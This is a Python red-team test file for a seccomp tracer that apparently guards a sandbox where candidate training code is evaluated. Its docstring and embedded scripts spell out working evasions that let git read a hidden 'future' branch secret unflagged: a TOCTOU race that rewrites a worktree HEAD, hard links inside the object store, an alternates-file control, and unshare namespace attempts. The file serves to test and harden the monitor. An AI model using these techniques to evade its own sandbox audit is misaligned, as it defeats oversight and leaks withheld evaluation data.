"""Red-team attacks on 4882b95 (issue 29): the machine's git's read-opens pinned.

The change: an open of the machine's git to read (``O_RDONLY`` without ``O_CREAT``/``O_TRUNC``/
``O_PATH``, ``open``/``openat``) is answered by the tracer from its own walk (``open_row``,
``pin``: ADDFD+SEND), and its ``gitread`` rows judge that walk; a HEAD's first bytes are read
by the tracer from the walk's descriptor before git reads them; an object file's folder row
takes a second walk that must hold the very file handed. ``trace.judge_git_reads`` then allows
a git process that read a task repository's objects only that repository's HEAD and references
(by identity), or a HEAD of one of its linked worktrees whose text (the tracer's peek) names
what the repository's HEAD names.

Each attack is a candidate's train code in the real sandbox under the compiled tracer, over a
task repository whose ``future`` branch holds ``FUTURE_SECRET_42`` (``obj.txt``: its loose
object's path; ``future.txt``: the future commit, written from outside the box: a phase learns
hashes from any listing). The goal: the machine's git reads the future with no finding.

An attack that works is a non-strict xfail asserting the safe outcome (its reason says how it
works: each is a race); one that is stopped is a passing test. Every one first asserts that it
ran. ``EVOTREE_REDTEAM_TRACER=<binary>`` runs them under another build of the tracer (the
comparison with the one before the change: ``git show b364669:harness/seccomp_trace.c``,
compiled).

Found: (A) a linked worktree's HEAD rewritten in place between the tracer's peek at its first
bytes and git's read (git stopped by the phase the moment its openat is answered) wins with no
finding: with the new tracer in 3-23 tries (8 of 8 runs of 60 tries), with the one before it in
1-27 tries (4 of 8 runs; 4 not won in 60): an old hole the change did not close, since the peek
still comes before git's read and a worktree's HEAD, unlike the task's, is writable; closed
after this report (git is handed a sealed memfd copy of the bytes the tracer read: seccomp_trace.c
``git_seal``; docs/threat-model.md), now a plain test that fails with the tracer before it. (B) a hard
link inside the object store's mount (every loose object linked into a folder the phase makes in
``.git/objects``, read by git with ``GIT_OBJECT_DIRECTORY`` under a HEAD of the phase's own)
won with no finding, at the first try, with the new tracer and the one before it: an old hole,
not the change's; closed after this report (the object file's own identity in the gitread row,
judged against the task store's files: docs/threat-model.md, "Hard links inside the object
store's mount"). Its
control (the same git directory with an ``alternates`` file naming the task's store) is a
finding with both. (C) a user or mount namespace of the phase's own: refused in the box (a
passing test). Not written as tests (nothing to attack): git's opens that are not pinned, on
this machine's git 2.39 under strace (gc, repack, commit-graph, pack-refs, update-index, commit,
fetch, config), are all ``O_CREAT|O_EXCL`` of a new name (a lock, a temporary pack or object:
what git reads back is what it wrote), ``O_WRONLY`` (logs, ``FETCH_HEAD``, ``COMMIT_EDITMSG``)
or ``/dev/null``.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from test_redteam_gym_trace import SECRET, _flagged, _safe
from test_redteam_trace_deputy import _lines, _run
from test_redteam_trace_deputy import seccomp as seccomp  # noqa: F401 - the fixture
from test_redteam_trace_own_links_redteam import _future_object

from evotree.harness import sandbox


@pytest.fixture(autouse=True)
def _tracer_binary(monkeypatch: pytest.MonkeyPatch) -> None:
    """Another build of the tracer where EVOTREE_REDTEAM_TRACER names one (the comparison)."""
    other = os.environ.get("EVOTREE_REDTEAM_TRACER")
    if other:
        monkeypatch.setattr(sandbox, "compiled_tracer", lambda: Path(other))


def _future(work: Path) -> None:
    """Outside the box: the future object's path (``obj.txt``) and commit (``future.txt``)."""
    _future_object(work)
    commit = subprocess.run(
        ["git", "-C", str(work), "rev-parse", "future"], check=True, capture_output=True, text=True
    ).stdout.strip()
    (work / "future.txt").write_text(commit)


def _ran(proc: subprocess.CompletedProcess) -> None:
    """The attack ran (git was driven at least once): not a pass otherwise."""
    if "tries" not in _lines(proc):
        pytest.fail(proc.stdout[-3000:] + proc.stderr[-3000:])


#: (A) the HEAD-bytes window, through a linked worktree's HEAD (writable: only the task
#: repository's own HEAD is bound read-only). ``git worktree add --detach /tmp/w`` (HEAD: the
#: base commit, which the audit allows), then ``git show`` in /tmp/w at idle priority on the one
#: CPU the watcher spins on. A descriptor of the worktree's HEAD opened write-only (not
#: reported) before. The watcher reads ``/proc/<git>/syscall``: ``257`` while git waits in its
#: openat for the tracer; once answered it stops git (SIGSTOP: git has not run since) and reads
#: ``/proc/<git>/fd/3`` (readlink: not an open). Git's HEAD open past its setup (the one its refs
#: code resolves; the first only validates the git directory) answered: the tracer has peeked at
#: the base id, and the phase pwrite()s the future commit's id in place (same length, same
#: inode) before git reads it (SIGCONT). The gitread row says the HEAD names the base (the
#: peek), so ``_worktree_head`` allows it; the worktree is removed at the end (no ``worktrees``
#: entry left for git_guard's compare). Before the change the same: the tracer peeked through
#: its own walk, then the kernel opened (CONTINUE); git is stopped the same way before its read.
_WORKTREE_HEAD_REWRITTEN = """\
import os, signal, subprocess, sys, time
sys.stdout.reconfigure(line_buffering=True)
work = os.getcwd()
future = open("future.txt").read().strip()
subprocess.run(["git", "worktree", "add", "-q", "--detach", "/tmp/w"], check=True)
head = subprocess.run(["git", "rev-parse", "--git-path", "HEAD"], cwd="/tmp/w", check=True,
                      capture_output=True, text=True).stdout.strip()
head = os.path.realpath(os.path.join("/tmp/w", head))
base = open(head).read()
fdw = os.open(head, os.O_WRONLY)  # write-only: not reported
def put(text):
    os.pwrite(fdw, text.encode(), 0)
cpus = sorted(os.sched_getaffinity(0))
one = {{cpus[-1]}}
os.sched_setaffinity(0, one)  # the watcher and git on one CPU, git at idle priority: once the
def slow():                   # tracer answers an open, git waits for the CPU the watcher spins on
    os.sched_setaffinity(0, one)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
rewrites, started = 0, time.monotonic()
for n in range(1, {tries} + 1):
    if rewrites >= {enough} or time.monotonic() - started > {seconds}:
        break  # enough landed rewrites (each one a win before the sealed copy), or out of time
    put(base)
    git = subprocess.Popen(["git", "show", "--format=%H %s"], cwd="/tmp/w", stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL, preexec_fn=slow)
    seen, written, hits = 0, False, 0
    link = "/proc/%d/fd/3" % git.pid  # git's HEAD opens get descriptor 3
    sc = os.open("/proc/%d/syscall" % git.pid, os.O_RDONLY)
    readlink, after = os.readlink, False
    pread, spins = os.pread, 0
    st = os.open("/proc/%d/stat" % git.pid, os.O_RDONLY)
    while True:
        try:
            state = pread(sc, 4, 0)
        except OSError:
            break
        if state != b"257 ":
            spins += 1
            if spins % 256 == 0 and git.poll() is not None:
                break
            continue
        try:
            while pread(sc, 4, 0) == b"257 ":  # git waits for the tracer
                pass
            os.kill(git.pid, signal.SIGSTOP)  # answered: stopped before it runs on
            until = time.time() + 1
            while b") T" not in pread(st, 64, 0) and time.time() < until:
                os.sched_yield()  # git installs the descriptor itself, then stops
            got = readlink(link)
        except OSError:
            got = ""
        hits += 1
        # past git's setup (a commondir handed as its sealed copy: "/memfd:commondir (deleted)")
        after = after or got.endswith(("/commondir", "/config")) or got.startswith("/memfd:commondir")
        # the HEAD handed by path (the tracer before the sealed copy) or as its sealed copy
        # (a memfd named after the file): either way git holds it and has read nothing yet
        if (got == head or got.startswith("/memfd:HEAD")) and after and not written:
            seen += 1
            put(future)  # the tracer has peeked; git holds the descriptor, has read nothing
            written = True
        os.kill(git.pid, signal.SIGCONT)
    os.close(sc)
    os.close(st)
    git.wait()
    out = git.stdout.read().decode("latin1")
    put(base)
    rewrites += seen
    print("try", n, "answers seen", hits, "HEAD rewritten", seen)
    if "FUTURE_SECRET_42" in out:
        print("attack OK", out.replace("\\n", " ")[:300])
        break
print("rewrites", rewrites)
print("tries", n, "cpus", cpus)
subprocess.run(["git", "worktree", "remove", "--force", "/tmp/w"], check=True)
print("removed", not os.path.exists(os.path.join(work, ".git", "worktrees")))
"""


@pytest.mark.heavy
def test_a_worktree_head_rewritten_after_the_peek(tmp_path: Path, seccomp: None) -> None:
    """The machine's git in a linked worktree, whose HEAD the phase rewrites in place right after
    the tracer answered git's open and before git reads it: stopped. Git is handed a sealed copy
    of the bytes the tracer read (``git_seal``), so the rewrite reaches the file, not what git
    reads, and the row's content is what git read. Won with the tracer before the sealed copy
    (``EVOTREE_REDTEAM_TRACER``: this test fails). The rewrite must have landed at least once
    (``rewrites``): a run in which the watcher never hit the window proves nothing. Tries go
    on until 8 rewrites landed (up to 400 tries, 200 s: the phase's limit is 300 s): on a loaded
    machine 60 fixed tries landed 7, and one run of session 21's rehearsal failed (a loaded CI)."""
    script = _WORKTREE_HEAD_REWRITTEN.format(tries=400, enough=8, seconds=200)
    proc, audit = _run(tmp_path, script, _future, timeout=300)
    _ran(proc)
    print(proc.stdout[-1500:], [v for v in audit.verdicts if v.flagged][:3])  # -s shows it
    _safe(proc, audit)
    assert int(_lines(proc).get("rewrites", "0")) > 0, proc.stdout[-2000:]


def _objects(work: Path) -> None:
    """Outside the box: ``_future``, and every loose object's path (``objects.txt``; a phase
    learns them from any listing of hashes)."""
    _future(work)
    ids = subprocess.run(
        ["git", "-C", str(work), "rev-list", "--objects", "--all"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()
    names = [
        f"{i[:2]}/{i[2:]}"
        for i in ids
        if len(i) == 40 and (work / ".git/objects" / i[:2] / i[2:]).is_file()
    ]
    (work / "objects.txt").write_text("\n".join(names))


def _packed(work: Path) -> None:
    """Outside the box: ``_future``, then every object put in one pack (``git repack -ad``: no
    loose object left, as in a cloned repository), its pack and index in ``objects.txt``."""
    _future(work)
    subprocess.run(["git", "-C", str(work), "repack", "-adq"], check=True)
    packs = sorted(p.name for p in (work / ".git/objects/pack").iterdir())
    (work / "objects.txt").write_text("\n".join(f"pack/{name}" for name in packs))


#: (B) a hard link inside the object store's mount: the task's ``objects/`` is bound onto itself
#: (a hard link OUT of it crosses a mount: EXDEV), but a folder made inside it is on the same
#: mount. Every loose object (or the pack and its index) is hard-linked (``link()``: not
#: reported) into ``.git/objects/mine/xx/...`` or ``mine/pack/`` (new folders, not the task's identities), and a git directory
#: of the phase's own in /tmp (its HEAD: the future commit, written write-only) reads them with
#: ``GIT_OBJECT_DIRECTORY`` naming ``mine``; ``git log -p -1`` (HEAD: nothing beyond the base by
#: its argv). The folders are removed afterwards. The gitread rows name ``mine`` (no task
#: store by identity), so judge_git_reads has no task store read to hold HEAD to.
_HARD_LINKED_STORE = """\
import os, subprocess
work = os.getcwd()
future = open("future.txt").read().strip()
mine = os.path.join(work, ".git", "objects", "mine")
made = 0
for name in open("objects.txt").read().split():
    os.makedirs(os.path.join(mine, os.path.dirname(name)), exist_ok=True)
    try:
        os.link(os.path.join(work, ".git", "objects", name), os.path.join(mine, name))
        made += 1
    except OSError as exc:
        print("link ERR", exc.errno)
        break
print("linked", made)
subprocess.run(["git", "init", "-q", "/tmp/m"], check=True)
fd = os.open("/tmp/m/.git/HEAD", os.O_WRONLY | os.O_TRUNC)
os.write(fd, (future + "\\n").encode())
os.close(fd)
env = dict(os.environ, GIT_DIR="/tmp/m/.git", GIT_OBJECT_DIRECTORY=mine)
out = subprocess.run(["git", "log", "-p", "-1"], env=env, capture_output=True, text=True)
print("attack", "OK" if "FUTURE_SECRET_42" in out.stdout else "ERR", out.stdout.replace("\\n", " ")[:300],
      out.stderr[:200])
names = open("objects.txt").read().split()
for name in names:  # unlink and rmdir: no open (shutil.rmtree opens the folders: a finding)
    if os.path.lexists(os.path.join(mine, name)):
        os.unlink(os.path.join(mine, name))
for xx in sorted({os.path.dirname(n) for n in names}):
    if os.path.isdir(os.path.join(mine, xx)):
        os.rmdir(os.path.join(mine, xx))
os.rmdir(mine)
print("tries", 1)
"""


@pytest.mark.heavy
@pytest.mark.parametrize("layout", ["loose", "packed"])
def test_objects_hard_linked_inside_the_store(tmp_path: Path, seccomp: None, layout: str) -> None:
    """Stopped (the lead's fix after the report): the future read from hard links the phase made
    inside the task's object store's mount (its loose objects, or its pack and index in
    ``mine/pack/``) is a finding: the gitread rows carry the identity of the object file git was
    handed, which is the task store's (recorded before the phase), so the process is held to the
    task's HEAD and its own HEAD is a finding. (Before: won at the first try, with the tracer
    before 4882b95 too: the rows named only the phase's folder.)"""
    proc, audit = _run(tmp_path, _HARD_LINKED_STORE, _objects if layout == "loose" else _packed)
    _ran(proc)
    print(proc.stdout[-1500:], [v for v in audit.verdicts if v.flagged][:3])  # -s shows it
    _safe(proc, audit)


#: (control for B) the same git directory of the phase's own, its objects through an
#: ``alternates`` file naming the task's store itself (no hard links): the gitread rows name the
#: task's store by identity under a HEAD that is not the task's, a finding
_ALTERNATES = """\
import os, subprocess
work = os.getcwd()
future = open("future.txt").read().strip()
subprocess.run(["git", "init", "-q", "/tmp/a"], check=True)
fd = os.open("/tmp/a/.git/HEAD", os.O_WRONLY | os.O_TRUNC)
os.write(fd, (future + "\\n").encode())
os.close(fd)
fd = os.open("/tmp/a/.git/objects/info/alternates", os.O_WRONLY | os.O_CREAT, 0o644)
os.write(fd, (os.path.join(work, ".git", "objects") + "\\n").encode())
os.close(fd)
out = subprocess.run(["git", "-C", "/tmp/a", "log", "-p", "-1"], capture_output=True, text=True)
print("attack", "OK" if "FUTURE_SECRET_42" in out.stdout else "ERR",
      out.stdout.replace("\\n", " ")[:300], out.stderr[:200])
print("tries", 1)
"""


@pytest.mark.heavy
def test_alternates_naming_the_task_store_are_a_finding(tmp_path: Path, seccomp: None) -> None:
    """The control for the hard links: the future read through an alternates file naming the
    task's store is flagged (a task store read under a HEAD of the phase's own)."""
    proc, audit = _run(tmp_path, _ALTERNATES, _future)
    _ran(proc)
    assert SECRET in proc.stdout and _flagged(audit), proc.stdout[-2000:] + proc.stderr[-2000:]


#: (C) a user and mount namespace of the phase's own (a bind mount over the task's HEAD or of its
#: store is not reported): refused in the box (``unshare`` fails: no user namespace may be made)
_NAMESPACES = """\
import subprocess
for cmd in (["unshare", "-Ur", "id"], ["unshare", "-Urm", "sh", "-c", "mount --bind /etc /mnt"]):
    r = subprocess.run(cmd, capture_output=True, text=True)
    print("unshare", cmd[1], "rc", r.returncode, r.stderr.strip()[:120])
print("tries", 1)
"""


@pytest.mark.heavy
def test_no_namespace_of_the_phases_own(tmp_path: Path, seccomp: None) -> None:
    """Stopped (before the change too): the phase cannot make a user namespace, so no mount of
    its own can put another file under the task's HEAD or store."""
    proc, _ = _run(tmp_path, _NAMESPACES)
    _ran(proc)
    lines = [line for line in proc.stdout.splitlines() if line.startswith("unshare ")]
    assert len(lines) == 2 and all(" rc 0 " not in line for line in lines), proc.stdout
